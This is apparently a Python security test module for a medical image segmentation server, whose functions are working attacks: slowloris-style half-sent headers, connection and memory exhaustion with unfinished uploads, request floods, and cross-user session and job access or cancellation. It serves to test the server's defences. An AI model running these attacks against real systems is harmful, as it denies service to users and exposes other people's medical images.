"""Attacks by load: too much, too slow, half of it, and what belongs to somebody else."""

from __future__ import annotations

import json
import resource
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from urllib.parse import urlsplit

import psutil
import requests

from stress.attack.attacks import Site, Target, attack

_MB = 1 << 20

_FORM = "multipart/form-data; boundary=x"
_PART = b'--x\r\nContent-Disposition: form-data; name="params"%b\r\n\r\n' + bytes(900 << 10) + b"\r\n"
_FILE, _FIELD = _PART % b'; filename="a.nii.gz"', _PART % b""


# Requests that are half sent, or too large for where they go.


@attack(Site.USERS)
def memory_by_unfinished_forms(target: Target) -> bool:
    """Begin 300 uploads, each with parts of less than a megabyte, and finish none."""
    head = _head(target, "PUT /datastore/image?image=x", 60 * _MB, _FORM)
    return _grown(target, head + 3 * _FILE, 300) > 250 * _MB


@attack(Site.USERS)
def memory_by_unfinished_fields(target: Target) -> bool:
    """Begin 300 prompts, each with three fields of less than a megabyte, and finish none."""
    head = _head(
        target, f"POST /infer/{target.model}?image={target.image}", 60 * _MB, "multipart/form-data; boundary=x"
    )
    return _grown(target, head + 3 * _FIELD, 300) > 250 * _MB


@attack(Site.USERS)
def memory_by_logins(target: Target) -> bool:
    """As nobody, begin 300 logins of nearly a megabyte, and finish none."""
    form = "application/x-www-form-urlencoded"
    head = _head(target, "POST /login", _MB, form, token="")
    return _grown(target, head + b"username=" + bytes(1000 << 10), 300) > 100 * _MB


@attack(Site.USERS)
def memory_by_bodies_to_nowhere(target: Target) -> bool:
    """Begin 300 uploads to a model and to an image that are not there."""
    grown = 0
    for path in ("POST /infer/nothing?image=x", "PUT /datastore/label?image=nothing"):
        grown += _grown(target, _head(target, path, 60 * _MB, _FORM) + 3 * _FILE, 150)
    return grown > 250 * _MB


@attack(Site.USERS)
def refused_bodies_are_read(target: Target) -> bool:
    """Send 64 MB where the answer is a refusal: without a token, to no route, to no model, where another role may."""
    nowhere = f"POST /infer/{target.model}?image={target.image}", "PUT /datastore/other"
    for request, token in ((nowhere[0], ""), (nowhere[1], target.token), ("POST /infer/nothing?image=x", target.token)):
        if (
            _taken(target, _head(target, request, 64 * _MB, "application/octet-stream", token=token), 64 * _MB)
            > 32 * _MB
        ):
            return True
    head = _head(target, "POST /train/baps", 64 * _MB, "application/json", token=target.annotator)
    return _taken(target, head, 64 * _MB) > 32 * _MB


@attack(Site.USERS)
def half_sent_headers(target: Target) -> bool:
    """As nobody, open 1,100 connections with half a header each: nobody else is answered."""
    with _limited_files(target, 1024), _held(target, b"GET /auth/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: ", 1100):
        with suppress(requests.RequestException):
            return not requests.get(f"{target.address}/auth/", timeout=5).ok
        return True


@attack(Site.USERS)
def half_a_header_for_ever(target: Target) -> bool:
    """Send half a header, then a byte of it now and then: the connection is kept."""
    with _connection(target) as one:
        one.sendall(b"GET /auth/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: ")
        for _ in range(13):
            time.sleep(1)
            try:
                one.sendall(b"x")
                if one.recv(1):  # It was answered, and is let go.
                    return False
            except TimeoutError:
                continue
            except OSError:
                return False
        return True


# One user takes what is there for all.


@attack(Site.USERS)
def whole_organs_hold_up_a_login(target: Target) -> bool:
    """Have 120 whole organs segmented at once, again and again: others wait for seconds to sign in."""
    params = {**target.click, "seconds": 60}
    with _flooding(
        target, 60, "POST", "/infer/whole_organ", {"image": target.image}, data={"params": json.dumps(params)}
    ):
        return _slowest(target, _sign_in) > 1.5


@attack(Site.USERS)
def next_samples_hold_up_a_click(target: Target) -> bool:
    """Ask for the next sample 150 times at once, again and again: others wait for seconds for the answer to a click."""
    with _flooding(target, 150, "POST", "/activelearning/random", {}, json={}):
        return _slowest(target, _click) > 2.5


@attack(Site.USERS)
def sessions_without_number(target: Target) -> bool:
    """Open session after session: the disk fills with images."""
    opened = []
    for _ in range(80):
        reply = target.ask("PUT", "/session/", token=target.annotator, files={"files": ("a.nii.gz", b"x" * 100)})
        if reply.ok:
            opened.append(reply.json()["session_id"])
    for name in opened:
        target.ask("DELETE", f"/session/{name}", token=target.annotator)
    return len(opened) == 80


# What belongs to somebody else.


@attack(Site.USERS)
def end_anothers_answer(target: Target) -> bool:
    """As an annotator, end the whole organ that another annotator waits for."""
    return any("cancelled" in note for note in _notes_of_a_long_answer(target, target.users["other"], end=True))


@attack(Site.USERS)
def see_anothers_answers(target: Target) -> bool:
    """As an annotator, list what other annotators wait for."""
    seen: list[str] = []
    _notes_of_a_long_answer(target, target.users["other"], end=False, seen=seen)
    return bool(seen)


@attack(Site.USERS)
def end_anothers_session(target: Target) -> bool:
    """As an annotator, close the session of another, by its id."""
    with _session(target) as name:
        target.ask("DELETE", f"/session/{name}", token=target.users["other"])
        return not target.look("GET", f"/session/{name}", token=target.annotator).ok


@attack(Site.USERS)
def read_anothers_session(target: Target) -> bool:
    """As an annotator, fetch the image that another has sent for a session, or have it segmented."""
    with _session(target) as name:
        theirs = target.users["other"]
        image = target.ask("GET", f"/session/{name}", {"image": "true"}, token=theirs)
        said = target.ask("GET", f"/session/{name}", token=theirs)
        params = {"params": json.dumps({**target.click, "result_extension": ".nrrd"})}
        query = {"session_id": name, "output": "image"}
        mask = target.ask("POST", f"/infer/{target.model}", query, token=theirs, data=params)
        return image.ok or said.ok or mask.ok


@attack(Site.USERS)
def guess_a_session(target: Target) -> bool:
    """Tell the id of another's session from the time and one's own."""
    with _session(target) as name, _session(target, target.users["other"]) as own:
        with suppress(ValueError):
            return uuid.UUID(name).version == 1 and uuid.UUID(name).node == uuid.UUID(own).node
        return False


def _head(target: Target, request: str, length: int, content_type: str, token: str | None = None) -> bytes:
    """The head of a request, of an annotator without another token."""
    token = target.annotator if token is None else token
    lines = [f"{request} HTTP/1.1", f"Host: {urlsplit(target.address).netloc}", f"Content-Length: {length}"]
    lines += [f"Content-Type: {content_type}"] + ([f"Authorization: Bearer {token}"] if token else [])
    return "\r\n".join([*lines, "", ""]).encode()


@contextmanager
def _connection(target: Target) -> Iterator[socket.socket]:
    where = urlsplit(target.address)
    with socket.create_connection((where.hostname or "", where.port or 0), timeout=5) as one:
        one.settimeout(0.2)
        yield one


@contextmanager
def _held(target: Target, beginning: bytes, count: int) -> Iterator[None]:
    """Keep connections open over which the beginning of a request was sent."""
    with ExitStack() as stack:
        for _ in range(count):
            with suppress(OSError):
                stack.enter_context(_connection(target)).sendall(beginning)
        yield


def _grown(target: Target, beginning: bytes, count: int) -> int:
    """Bytes of memory that the server takes for as many requests that are never finished."""
    server = psutil.Process(target.process_id)
    before = server.memory_info().rss
    with _held(target, beginning, count):
        time.sleep(1)
        grown = server.memory_info().rss - before
    target.look("GET", "/auth/")
    return grown


def _taken(target: Target, head: bytes, length: int) -> int:
    """Bytes that the server takes of what follows a head."""
    taken = 0
    with _connection(target) as one, suppress(OSError):
        one.settimeout(5)
        one.sendall(head)
        while taken < length:
            taken += one.send(bytes(_MB))
    return taken


@contextmanager
def _limited_files(target: Target, most: int) -> Iterator[None]:
    """The server may open as many files as most systems allow, and we as many as we may."""
    own, theirs = resource.getrlimit(resource.RLIMIT_NOFILE), psutil.Process(target.process_id)
    before = theirs.rlimit(psutil.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (own[1], own[1]))
    theirs.rlimit(psutil.RLIMIT_NOFILE, (most, before[1]))
    try:
        yield
    finally:
        theirs.rlimit(psutil.RLIMIT_NOFILE, before)
        resource.setrlimit(resource.RLIMIT_NOFILE, own)


@contextmanager
def _flooding(
    target: Target, at_once: int, method: str, path: str, query: dict[str, str], **sent: object
) -> Iterator[None]:
    """An annotator asks without a pause, as long as the context lasts."""
    over = threading.Event()

    def ask() -> None:
        while not over.is_set():
            with suppress(requests.RequestException):
                reply = target.look(method, path, query, token=target.annotator, **sent)
                over.wait(reply.status_code == 429)  # We share the processor with the server.

    with ThreadPoolExecutor(at_once) as pool:
        for _ in range(at_once):
            pool.submit(ask)
        try:
            time.sleep(1)
            yield
        finally:
            over.set()


def _slowest(target: Target, ask: object) -> float:
    """Seconds that the slowest of some requests of another user takes."""
    times = []
    for _ in range(6):
        begun = time.monotonic()
        assert callable(ask)
        ask(target)
        times.append(time.monotonic() - begun)
        time.sleep(0.5)
    return max(times)


def _sign_in(target: Target) -> None:
    login = {"username": "other", "password": target.users["other"]}
    target.ask("POST", "/auth/token", token="", data=login)


def _click(target: Target) -> None:
    sent = {"params": json.dumps(dict(target.click))}
    target.ask("POST", f"/infer/{target.model}", {"image": target.other_image}, token=target.users["other"], data=sent)


def _notes_of_a_long_answer(target: Target, by: str, end: bool, seen: list[str] | None = None) -> list[str]:
    """Have whole organs segmented until another user has seen one, and has tried to end it; what is noted of them."""
    notes: list[str] = []
    over = threading.Event()

    def ask() -> None:
        params = {"params": json.dumps({**target.click, "seconds": 30})}
        for _ in range(20):
            if over.is_set():
                return
            query = {"image": target.image, "output": "json"}
            reply = target.look("POST", "/infer/whole_organ", query, token=target.annotator, data=params)
            notes.extend(reply.json().get("notes", []) if reply.ok else [])

    waiting = [threading.Thread(target=ask) for _ in range(2)]
    for one in waiting:
        one.start()
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline and any(one.is_alive() for one in waiting):
        for token in (by, target.token):  # An admin sees all: ids may become known.
            for job in target.look("GET", "/progress/", token=token).json():
                if token == by and seen is not None:
                    seen.append(job["id"])
                if end:
                    target.ask("DELETE", f"/progress/{job['id']}", token=by)
    over.set()
    for one in waiting:
        one.join()
    return notes


@contextmanager
def _session(target: Target, token: str = "") -> Iterator[str]:
    """A session of an annotator with an image; its id."""
    token = token or target.annotator
    content = (target.images / f"{target.image}.nii.gz").read_bytes()
    files = {"files": ("a.nii.gz", content)}
    name: str = target.look("PUT", "/session/", token=token, files=files).json()["session_id"]
    try:
        yield name
    finally:
        target.look("DELETE", f"/session/{name}", token=token)
